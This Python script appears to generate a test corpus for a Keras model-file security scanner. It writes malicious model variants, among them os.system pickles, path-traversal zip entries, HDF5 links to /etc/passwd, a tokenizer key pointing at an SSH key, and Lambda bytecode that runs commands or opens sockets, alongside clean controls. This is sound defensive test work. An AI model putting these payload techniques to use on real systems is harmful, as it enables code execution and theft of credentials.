"""Build the security benchmark's corpus: crafted malicious Keras files and clean ones.

    python scripts/make_security_corpus.py OUT_DIR [--fixtures]

Every malicious file is a real saved model (tiny Keras 3 or tf_keras models,
random weights) with one payload edited in: extra zip entries (pickles that
call ``os.system``, Python sources, ``.pth`` files, native libraries),
unsafe entry names, HDF5 external storage, external links, virtual datasets
and region references (in ``.h5`` models and in the weights of ``.keras``
archives), UTF-16/32 configs, tf_keras' ``registered_name`` fallback,
file-reading tokenizer keys, and Lambda bytecode of every grade.  Payloads
stay inert: functions are marshalled and objects pickled, never called, and
no file is ever loaded.  ``OUT_DIR/manifest.json`` records, per file, the
security code that must be reported at error severity (``null`` for clean
files) and the class it belongs to.

The clean side: keras.applications models (``weights=None``), the
quantization-aware fixture, mixed precision, keras_hub tokenizer layers
without paths, and Lambdas of tensor math only (which must be warnings).
``--fixtures`` writes only the small subset used by the tests.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import marshal
import os
import pickle
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
ROOT = Path(__file__).resolve().parent.parent


class _Reduce:
    """Pickles as a call of ``function(*arguments)``; the call happens only on unpickling."""

    def __init__(self, function: Any, arguments: tuple[Any, ...]) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.arguments


def _code(function: Any) -> str:
    return base64.b64encode(marshal.dumps(function.__code__)).decode("ascii")


# -- base models ------------------------------------------------------------------------------


def build_keras3(folder: Path) -> dict[str, Path]:
    import keras

    inputs = keras.Input((8,), name="x")
    hidden = keras.layers.Dense(4, activation="relu", name="dense")(inputs)
    outputs = keras.layers.Dense(2, name="head")(hidden)
    model = keras.Model(inputs, outputs, name="tiny")
    paths = {"keras": folder / "base.keras", "h5": folder / "base.h5"}
    model.save(paths["keras"])
    model.save(paths["h5"])
    lam = keras.layers.Lambda(lambda t: t * 2.0, name="payload")(hidden)
    with_lambda = keras.Model(inputs, keras.layers.Dense(2, name="head")(lam), name="tiny")
    paths["lambda"] = folder / "base_lambda.keras"
    with_lambda.save(paths["lambda"])
    return paths


TF_KERAS_LAMBDA = r"""
import os, sys
os.environ["TF_USE_LEGACY_KERAS"] = "1"
import tf_keras as keras
inputs = keras.Input((8,), name="x")
hidden = keras.layers.Dense(4, activation="relu", name="dense")(inputs)
lam = keras.layers.Lambda(lambda t: t * 2.0, name="payload")(hidden)
keras.Model(inputs, keras.layers.Dense(2, name="head")(lam)).save(sys.argv[1])
keras.Model(inputs, keras.layers.Dense(2, name="head")(hidden)).save(sys.argv[2])
"""


def build_tf_keras(folder: Path) -> dict[str, Path]:
    paths = {"lambda_h5": folder / "tfk_lambda.h5", "h5": folder / "tfk_plain.h5"}
    subprocess.run([sys.executable, "-c", TF_KERAS_LAMBDA, str(paths["lambda_h5"]),
                    str(paths["h5"])], check=True, capture_output=True)
    return paths


# -- editing helpers --------------------------------------------------------------------------


def rewrite_zip(source: Path, target: Path, extra: dict[str, bytes] | None = None,
                config: Any = None, encoding: str | None = None,
                replace: dict[str, bytes] | None = None) -> None:
    extra, replace = extra or {}, replace or {}
    with zipfile.ZipFile(source) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    if config is not None:
        text = json.dumps(config)
        entries["config.json"] = text.encode(encoding) if encoding else text.encode()
    entries.update(replace)
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in {**entries, **extra}.items():
            archive.writestr(zipfile.ZipInfo(name), data)


def keras_config(path: Path) -> dict[str, Any]:
    with zipfile.ZipFile(path) as archive:
        config: dict[str, Any] = json.loads(archive.read("config.json"))
    return config


def layer(config: dict[str, Any], name: str) -> dict[str, Any]:
    entry: dict[str, Any] = next(e for e in config["config"]["layers"] if e["name"] == name)
    return entry


def h5_with(source: Path, target: Path, edit: Any) -> None:
    import h5py

    shutil.copy(source, target)
    with h5py.File(target, "a") as handle:
        edit(handle)


def weights_with(source: Path, target: Path, edit: Any, folder: Path) -> None:
    with zipfile.ZipFile(source) as archive:
        weights = archive.read("model.weights.h5")
    scratch = folder / "scratch.weights.h5"
    scratch.write_bytes(weights)
    import h5py

    with h5py.File(scratch, "a") as handle:
        edit(handle)
    rewrite_zip(source, target, replace={"model.weights.h5": scratch.read_bytes()})
    scratch.unlink()


def external_dataset(handle: Any) -> None:
    handle.create_dataset("leak", shape=(16,), dtype="u1", external=[("/etc/hostname", 0, 16)])


def external_link(handle: Any) -> None:
    import h5py

    handle["linked"] = h5py.ExternalLink("/etc/passwd.h5", "/data")


def virtual_dataset(handle: Any) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("/tmp/other.h5", "data", shape=(4,))
    handle.create_virtual_dataset("virtual", layout)


def region_reference(handle: Any) -> None:
    import h5py

    data = handle.create_dataset("regions_source", data=list(range(10)))
    refs = handle.create_dataset("regions", (1,), dtype=h5py.regionref_dtype)
    refs[0] = data.regionref[2:5]


# -- the corpus ------------------------------------------------------------------------------


def lambda_functions() -> dict[str, tuple[Any, str | None]]:
    """name -> (function, code that must be reported at error, or None: a warning)."""
    return {
        "lambda_os_system": (lambda x: __import__("os").system("id") or x, "TFL601"),
        "lambda_open": (lambda x: open("/etc/passwd").read() and x, "TFL601"),
        "lambda_chr": (lambda x: eval(chr(105) + chr(100)) or x, "TFL601"),
        "lambda_getattr": (lambda x, n="sys" + "tem": getattr(x, n)(), "TFL601"),
        "lambda_exec": (lambda x: exec("import os") or x, "TFL601"),
        "lambda_read_file": (lambda x: tf.io.read_file("/etc/passwd") and x, "TFL601"),  # type: ignore[name-defined]  # noqa: F821
        "lambda_subprocess": (lambda x: subprocess.run(["id"]) and x, "TFL601"),
        "lambda_socket": (lambda x: socket.create_connection(("1.2.3.4", 80)) and x, "TFL601"),  # type: ignore[name-defined]  # noqa: F821
        "clean_lambda_softsign": (lambda x: x / (1 + abs(x)), None),
        "clean_lambda_ops": (lambda x: ops.sin(x) * ops.cos(x), None),  # type: ignore[name-defined]  # noqa: F821
        "clean_lambda_tf": (
            lambda x: tf.nn.relu(x) + tf.reduce_mean(x, axis=-1, keepdims=True),  # type: ignore[name-defined]  # noqa: F821
            None),
        "clean_lambda_backend": (lambda x: K.l2_normalize(x, axis=1), None),  # type: ignore[name-defined]  # noqa: F821
        "clean_lambda_slice": (lambda x: x[:, :2] * 0.5, None),
    }


def make(out: Path, fixtures_only: bool = False) -> dict[str, dict[str, Any]]:
    out.mkdir(parents=True, exist_ok=True)
    work = out / ".base"
    work.mkdir(exist_ok=True)
    base = build_keras3(work)
    legacy = build_tf_keras(work)
    manifest: dict[str, dict[str, Any]] = {}

    def add(name: str, code: str | None, kind: str) -> Path:
        manifest[name] = {"code": code, "class": kind}
        return out / name

    plain = keras_config(base["keras"])
    system = _Reduce(os.system, ("id",))
    # Extra zip entries next to a clean model.
    for proto in (0, 2, 4, 5):
        rewrite_zip(base["keras"], add(f"pickle_p{proto}.keras", "TFL608", "zip-pickle"),
                    {"assets/state.pkl": pickle.dumps(system, protocol=proto)})
    rewrite_zip(base["keras"], add("pickle_no_suffix.keras", "TFL608", "zip-pickle"),
                {"extra/data": pickle.dumps({"a": system}, protocol=4)})
    npy = io.BytesIO()
    import numpy as np

    np.save(npy, np.array([system], dtype=object), allow_pickle=True)
    rewrite_zip(base["keras"], add("numpy_object.keras", "TFL608", "zip-pickle"),
                {"assets/table.npy": npy.getvalue()})
    rewrite_zip(base["keras"], add("python_source.keras", "TFL608", "zip-code"),
                {"hooks.py": b"import os\nos.system('id')\n"})
    rewrite_zip(base["keras"], add("python_source_no_suffix.keras", "TFL608", "zip-code"),
                {"assets/README": b"import os\nos.system('id')\n"})
    rewrite_zip(base["keras"], add("pth_file.keras", "TFL608", "zip-code"),
                {"evil.pth": b"import os; os.system('id')\n"})
    rewrite_zip(base["keras"], add("shared_library.keras", "TFL608", "zip-code"),
                {"assets/libx.dat": b"\x7fELF\x02\x01\x01" + bytes(57)})
    rewrite_zip(base["keras"], add("pyc_file.keras", "TFL608", "zip-code"),
                {"assets/m.pyc": b"\xa7\r\r\n" + bytes(12)
                 + marshal.dumps(compile("1", "m", "eval"))})
    rewrite_zip(base["keras"], add("script.keras", "TFL608", "zip-code"),
                {"assets/run": b"#!/bin/sh\nid\n"})
    # Entry names that escape an extraction folder.
    for name, entry in (("traversal_parent.keras", "../../.bashrc"),
                        ("traversal_absolute.keras", "/etc/cron.d/job"),
                        ("traversal_backslash.keras", "..\\..\\evil.txt")):
        rewrite_zip(base["keras"], add(name, "TFL608", "zip-name"), {entry: b"x"})
    # HDF5 data outside the file.
    for name, edit in (("h5_external_storage.h5", external_dataset),
                       ("h5_external_link.h5", external_link),
                       ("h5_virtual_dataset.h5", virtual_dataset),
                       ("h5_region_reference.h5", region_reference)):
        h5_with(base["h5"], add(name, "TFL609", "hdf5"), edit)
    h5_with(legacy["h5"], add("h5_external_storage_tfkeras.h5", "TFL609", "hdf5"),
            external_dataset)
    for name, edit in (("weights_external_storage.keras", external_dataset),
                       ("weights_external_link.keras", external_link),
                       ("weights_virtual_dataset.keras", virtual_dataset)):
        weights_with(base["keras"], add(name, "TFL609", "hdf5-in-keras"), edit, work)
    # Configs Keras decodes whatever their Unicode encoding.
    evil = json.loads(json.dumps(plain))
    layer(evil, "dense")["config"]["activation"] = {"module": "os", "class_name": "function",
                                                    "config": "system",
                                                    "registered_name": "function"}
    for encoding in ("utf-16", "utf-32"):
        rewrite_zip(base["keras"], add(f"config_{encoding.replace('-', '')}.keras", "TFL603",
                                       "encoding"), config=evil, encoding=encoding)
    rewrite_zip(base["keras"], add("config_utf8_bom.keras", "TFL603", "encoding"),
                config=evil, encoding="utf-8-sig")
    # tf_keras' registered_name fallback.
    for name, module, registered, code in (
            ("registered_get_file.keras", "keras.src.utils", "get_file", "TFL605"),
            ("registered_py_function.keras", "tensorflow", "py_function", "TFL603"),
            ("registered_os_system.keras", "keras.src.initializers", "system", None)):
        if code is None:
            continue
        config = json.loads(json.dumps(plain))
        layer(config, "dense")["config"]["kernel_initializer"] = {
            "module": module, "class_name": "GlorotUniform", "config": {},
            "registered_name": registered}
        rewrite_zip(base["keras"], add(name, code, "registered-name"), config=config)
    # Layers that read files: keras_hub tokenizers and Keras' own lookups.
    for name, class_name, module, key, value in (
            ("hub_wordpiece_vocab.keras", "WordPieceTokenizer",
             "keras_hub.src.tokenizers.word_piece_tokenizer", "vocabulary", "/etc/passwd"),
            ("hub_bpe_merges.keras", "BytePairTokenizer",
             "keras_hub.src.tokenizers.byte_pair_tokenizer", "merges", "/root/.ssh/id_rsa"),
            ("hub_sentencepiece_proto.keras", "SentencePieceTokenizer",
             "keras_hub.src.tokenizers.sentence_piece_tokenizer", "proto",
             "https://example.invalid/model.spm"),
            ("lookup_vocab_url.keras", "StringLookup", "keras.layers", "vocabulary",
             "https://example.invalid/vocab.txt")):
        config = json.loads(json.dumps(plain))
        layer(config, "dense")["config"]["tokenizer"] = {
            "module": module, "class_name": class_name, "registered_name": class_name,
            "config": {"name": "tok", key: value}}
        rewrite_zip(base["keras"], add(name, "TFL606", "file-reading-key"), config=config)
    # References in the config.
    rewrite_zip(base["keras"], add("config_os_system.keras", "TFL603", "config-reference"),
                config=evil)
    # Lambda bytecode, Keras 3 and tf_keras.
    lam_config = keras_config(base["lambda"])
    clean_lambdas: list[str] = []
    for name, (function, code) in lambda_functions().items():
        config = json.loads(json.dumps(lam_config))
        layer(config, "payload")["config"]["function"]["config"]["code"] = _code(function)
        filename = f"{name}.keras"
        rewrite_zip(base["lambda"], add(filename, code, "lambda" if code else "clean-lambda"),
                    config=config)
        if code is None:
            clean_lambdas.append(filename)
    old = bytearray(base64.b64decode(_code(lambda_functions()["lambda_os_system"][0])))
    # The same code in the layout of Python 3.8-3.10 (six 32-bit fields before the bytecode).
    old[1:1] = b"\x00\x00\x00\x00"
    config = json.loads(json.dumps(lam_config))
    layer(config, "payload")["config"]["function"]["config"]["code"] = (
        base64.b64encode(bytes(old)).decode())
    rewrite_zip(base["lambda"], add("lambda_python310.keras", "TFL601", "lambda"), config=config)
    tfk = add("lambda_tfkeras_os.h5", "TFL601", "lambda")
    h5_with(legacy["lambda_h5"], tfk, lambda handle: _tf_keras_code(
        handle, _code(lambda_functions()["lambda_os_system"][0])))
    if not fixtures_only:
        make_clean(out, base, legacy, manifest)
    shutil.rmtree(work)
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    return manifest


def _tf_keras_code(handle: Any, code: str) -> None:
    config = json.loads(handle.attrs["model_config"])
    lam = next(e for e in config["config"]["layers"] if e["class_name"] == "Lambda")
    lam["config"]["function"] = [code, None, None]
    handle.attrs["model_config"] = json.dumps(config)


def make_clean(out: Path, base: dict[str, Path], legacy: dict[str, Path],
               manifest: dict[str, dict[str, Any]]) -> None:
    import keras

    def add(name: str, kind: str) -> Path:
        manifest[name] = {"code": None, "class": kind}
        return out / name

    shutil.copy(base["keras"], add("clean_tiny.keras", "clean"))
    shutil.copy(base["h5"], add("clean_tiny.h5", "clean"))
    shutil.copy(legacy["h5"], add("clean_tiny_tfkeras.h5", "clean"))
    shutil.copy(ROOT / "fixtures" / "keras_cases" / "qat.h5", add("clean_qat.h5", "clean-qat"))
    zoo = {
        "mobilenet": lambda: keras.applications.MobileNet(weights=None, alpha=0.25,
                                                          input_shape=(96, 96, 3)),
        "mobilenet_v2": lambda: keras.applications.MobileNetV2(weights=None, alpha=0.35,
                                                               input_shape=(96, 96, 3)),
        "mobilenet_v3_small": lambda: keras.applications.MobileNetV3Small(
            weights=None, input_shape=(96, 96, 3), minimalistic=True),
        "efficientnet_b0": lambda: keras.applications.EfficientNetB0(weights=None),
        "densenet121": lambda: keras.applications.DenseNet121(weights=None),
        "nasnet_mobile": lambda: keras.applications.NASNetMobile(weights=None),
        "resnet50": lambda: keras.applications.ResNet50(weights=None),
        "vgg16": lambda: keras.applications.VGG16(weights=None, include_top=False),
    }
    for name, build in zoo.items():
        model = build()
        model.save(add(f"zoo_{name}.keras", "clean-zoo"))
        model.save(add(f"zoo_{name}.h5", "clean-zoo"))
        keras.backend.clear_session()
    keras.mixed_precision.set_global_policy("mixed_float16")
    inputs = keras.Input((16,))
    outputs = keras.layers.Dense(4, dtype="float32")(keras.layers.Dense(8)(inputs))
    keras.Model(inputs, outputs).save(add("clean_mixed_float16.keras", "clean-mixed-precision"))
    keras.mixed_precision.set_global_policy("float32")
    plain = keras_config(base["keras"])
    for name, class_name, module, key, value in (
            ("clean_hub_wordpiece.keras", "WordPieceTokenizer",
             "keras_hub.src.tokenizers.word_piece_tokenizer", "vocabulary",
             ["[PAD]", "[UNK]", "the", "model"]),
            ("clean_hub_bpe.keras", "BytePairTokenizer",
             "keras_hub.src.tokenizers.byte_pair_tokenizer", "merges", ["t h", "th e"])):
        config = json.loads(json.dumps(plain))
        layer(config, "dense")["config"]["tokenizer"] = {
            "module": module, "class_name": class_name, "registered_name": class_name,
            "config": {"name": "tok", key: value}}
        rewrite_zip(base["keras"], add(name, "clean-keras-hub"), config=config)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--fixtures", action="store_true",
                        help="only the malicious files and harmless Lambdas (for the tests)")
    args = parser.parse_args()
    manifest = make(args.out, fixtures_only=args.fixtures)
    bad = sum(1 for item in manifest.values() if item["code"])
    print(f"wrote {len(manifest)} files ({bad} malicious) to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
